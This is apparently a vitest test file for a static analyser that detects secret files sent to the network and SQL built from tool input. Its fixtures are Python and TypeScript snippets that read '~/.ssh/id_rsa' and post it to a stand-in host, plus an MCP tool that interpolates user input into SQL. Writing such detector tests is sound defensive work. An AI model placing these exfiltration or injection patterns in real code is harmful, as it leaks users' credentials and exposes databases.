import { describe, expect, it } from 'vitest';
import { rulesOf } from './rules-of.ts';

/** Inert: hosts are reserved (RFC 2606), and nothing of it is run. */
const IN = 'https://collect.example.invalid/in';
const PYTHON_FILE = "open(os.path.expanduser('~/FILE')).read()";
const SCRIPT_FILE = "fs.readFileSync(os.homedir() + '/FILE', 'utf8')";
const SCRIPT_HEAD = "import fs from 'fs';\nimport os from 'os';\n";

/** What is sent through an object of which nothing but its declared type is known; `FILE` is a private file, or one that is none. */
const SENT: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'a parameter of Python': {
    'run.py': `import os, requests\ndef send(session: requests.Session, data):\n    session.post('${IN}', data=data)\ndef main(session):\n    send(session, ${PYTHON_FILE})\n`,
  },
  'a parameter that may be none': {
    'run.py': `import os\nfrom typing import Optional\nimport httpx\nclass Box:\n    def __init__(self, client: Optional[httpx.Client] = None):\n        self.client = client\n    def go(self):\n        self.client.post('${IN}', content=${PYTHON_FILE})\n`,
  },
  'a type in quotes, one of two': {
    'run.py': `import os, httpx\ndef go(client: "httpx.Client | None"):\n    client.post('${IN}', content=${PYTHON_FILE})\n`,
  },
  'one of two types of Python': {
    'run.py': `import os, socket\ndef go(line: None | socket.socket):\n    line.sendall(${PYTHON_FILE}.encode())\n`,
  },
  'a field of a data class': {
    'run.py': `import os, httpx\nfrom dataclasses import dataclass\n@dataclass\nclass Box:\n    client: httpx.AsyncClient\n    async def go(self):\n        await self.client.post('${IN}', content=${PYTHON_FILE})\n`,
  },
  'a variable of a module that is set elsewhere': {
    'run.py': `import os, httpx\nclient: httpx.Client\ndef go():\n    client.post('${IN}', content=${PYTHON_FILE})\n`,
  },
  'what a function gives': {
    'run.py': `import os, httpx\nfrom made import build\ndef client() -> httpx.Client:\n    return build()\ndef go():\n    client().post('${IN}', content=${PYTHON_FILE})\n`,
  },
  'what a context manager hands over': {
    'run.py': `import os, httpx\nfrom contextlib import contextmanager\nfrom collections.abc import Iterator\nfrom made import build\n@contextmanager\ndef client() -> Iterator[httpx.Client]:\n    yield build()\ndef go():\n    with client() as each:\n        each.post('${IN}', content=${PYTHON_FILE})\n`,
  },
  'an object of a class of the target': {
    'sender.py': `import httpx\nclass Sender:\n    def out(self, data):\n        httpx.post('${IN}', content=data)\n`,
    'run.py': `import os\nfrom sender import Sender\ndef go(sender: Sender):\n    sender.out(${PYTHON_FILE})\n`,
  },
  'the streams of asyncio': {
    'run.py': `import asyncio, os\nasync def go(writer: asyncio.StreamWriter):\n    writer.write(${PYTHON_FILE}.encode())\n`,
  },
  'a parameter of TypeScript': {
    'run.ts': `import type { AxiosInstance } from 'axios';\n${SCRIPT_HEAD}export const go = (client: AxiosInstance) => client.post('${IN}', ${SCRIPT_FILE});\n`,
  },
  'a parameter that is a field': {
    'run.ts': `import * as net from 'net';\n${SCRIPT_HEAD}export class Out {\n  constructor(private readonly line: net.Socket) {}\n  go() { this.line.write(${SCRIPT_FILE}); }\n}\n`,
  },
  'a field of a class': {
    'run.ts': `import { type AxiosInstance } from 'axios';\n${SCRIPT_HEAD}export class Out {\n  private client!: AxiosInstance;\n  go() { return this.client.post('${IN}', ${SCRIPT_FILE}); }\n}\n`,
  },
  'a variable of TypeScript': {
    'run.ts': `import { WebSocket } from 'ws';\n${SCRIPT_HEAD}let line: WebSocket | undefined;\nexport function go() { line?.send(${SCRIPT_FILE}); }\n`,
  },
  'what a function of TypeScript gives': {
    'run.ts': `import type { AxiosInstance } from 'axios';\nimport { made } from './made';\n${SCRIPT_HEAD}async function client(): Promise<AxiosInstance> { return made(); }\nexport async function go() { await (await client()).post('${IN}', ${SCRIPT_FILE}); }\n`,
  },
  'an object of a class that is imported as a type': {
    'sender.ts': `import axios from 'axios';\nexport class Sender {\n  out(data: string) { return axios.post('${IN}', data); }\n}\n`,
    'run.ts': `import type { Sender } from './sender';\n${SCRIPT_HEAD}export const go = (sender: Sender) => sender.out(${SCRIPT_FILE});\n`,
  },
};

describe('an object of which the declared type alone is known', () => {
  it.each(Object.entries(SENT))('is followed: %s', async (_, files) => {
    const withFile = (path: string): Readonly<Record<string, string>> =>
      Object.fromEntries(Object.entries(files).map(([name, text]) => [name, text.replace('FILE', path)]));
    expect(await rulesOf(withFile('.ssh/id_rsa'))).toContain('secret-file-to-network');
    expect(await rulesOf(withFile('notes/today.txt'))).not.toContain('secret-file-to-network');
  });
});

describe('a query of a tool', () => {
  const server = (parameter: string, query: string): Readonly<Record<string, string>> => ({
    'server.ts': `import Database from 'better-sqlite3';\nimport type { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';\nimport { z } from 'zod';\nexport function register(server: McpServer, db: ${parameter}) {\n  server.tool('find', { q: z.string() }, async ({ q }) => ({\n    content: [{ type: 'text', text: JSON.stringify(${query}) }],\n  }));\n}\n`,
  });

  it('is known by the types of what registers it', async () => {
    const typed = 'Database.Database';
    expect(
      await rulesOf(server(typed, "db.prepare(`select * from notes where body = '${q}'`).all()")),
    ).toContain('sql-from-input');
    expect(
      await rulesOf(server(typed, "db.prepare('select * from notes where body = ?').all(q)")),
    ).not.toContain('sql-from-input');
  });
});
